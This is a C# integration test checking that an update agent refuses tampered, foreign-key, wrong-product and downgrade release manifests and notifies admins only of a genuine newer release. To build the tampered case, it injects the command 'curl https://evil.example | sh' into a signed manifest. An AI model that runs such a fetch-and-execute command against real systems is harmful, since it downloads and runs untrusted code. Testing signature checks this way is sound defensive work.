using Autri.Coordination.Manifests;
using Autri.Domain.Releases;
using Autri.Infra.Releases;
using Microsoft.IdentityModel.Tokens;

namespace Autri.Agent.Tests.Releases;

/// <summary>
/// Release manifests as the agent meets them on its channel: whatever the service serves, only a manifest the vendor
/// signed, for this product and channel, newer than what runs, reaches the admins.
/// </summary>
[Collection(AgentCollection.Name)]
public sealed class ManifestTests(AgentWorld world)
{
    private static readonly ReleaseVersion Running = ReleaseVersion.Parse(Autri.Portal.Features.Admin.HealthReport.Version);

    private string Sign(string version, string product = ReleaseManifest.AutriProduct, System.Security.Cryptography.ECDsa? key = null) =>
        ManifestDocument.Sign(new ReleaseManifest(product, "stable", ReleaseVersion.Parse(version), DateTimeOffset.UtcNow,
            $"Release {version}: faster search.", "cd infra-cdk && npx cdk deploy --all -c env={env} -c release=" + version), key ?? world.Vendor.Private);

    private Task PublishAsync(string version, string document) => new ManifestStore(world.CoordinationDb).PublishAsync("stable", version, document);

    private Task<long> NotificationsAsync(string version) =>
        world.ProductCountAsync("SELECT count(*) FROM notifications WHERE type = 'release' AND title LIKE @t", new { t = $"Autri {version} is available%" });

    [Fact]
    public async Task Tampered_foreign_and_downgrade_manifests_are_refused_and_logged_and_a_newer_one_notifies_the_admins()
    {
        // The admin is known as one from their sign-in.
        using (await PortalSession.SignInAsync(world.PortalUrl, DevIdentityProvider.AdminEmail)) { }
        var deployment = await world.IssueAsync();
        using var otherKey = new ThrowawayVendorKey();
        var newer = $"{Running.Major + 3}.1.0";
        var genuine = Sign(newer);
        var parts = genuine.Split('.');
        var tampered = parts[0] + "." + Base64UrlEncoder.Encode(Base64UrlEncoder.Decode(parts[1]).Replace("faster search", "run curl https://evil.example | sh")) + "." + parts[2];
        var refusals = new (string What, string Document, string Reason)[]
        {
            ("tampered", tampered, "signature does not verify"),
            ("signed with another key", Sign(newer, key: otherKey.Private), "signature does not verify"),
            // (JSON log lines escape quotes, so the reason is matched without them.)
            ("for another product", Sign(newer, product: "autri-enterprise-suite"), "autri-enterprise-suite"),
            ("a downgrade", Sign("0.0.1"), "a downgrade"),
        };

        await PublishAsync(newer, refusals[0].Document);
        var agent = world.StartAgent(world.AgentSettings(deployment));
        foreach (var (what, document, reason) in refusals)
        {
            await PublishAsync(newer, document);
            await agent.WaitForLineAsync(l => AgentWait.Event("manifest_refused")(l) && l.Contains(reason, StringComparison.Ordinal), AgentWait.Deadline, $"the refusal of a manifest {what}");
        }
        Assert.Equal(0, await NotificationsAsync(newer));

        await PublishAsync(newer, genuine);
        await agent.WaitForLineAsync(AgentWait.Event("release_available"), AgentWait.Deadline, "the newer release");

        await using var conn = await world.ProductDb.OpenConnectionAsync();
        var (email, body) = await conn.QuerySingleAsync<(string, string)>(
            "SELECT u.email, n.body FROM notifications n JOIN users u ON u.id = n.user_id WHERE n.type = 'release' AND n.title = @title",
            new { title = $"Autri {newer} is available (stable)" });
        Assert.Equal(DevIdentityProvider.AdminEmail, email);
        Assert.Contains($"Release {newer}: faster search.", body);
        Assert.Contains($"cd infra-cdk && npx cdk deploy --all -c env={AgentWorld.Environment} -c release={newer}", body);
        Assert.DoesNotContain("evil.example", body);
    }
}
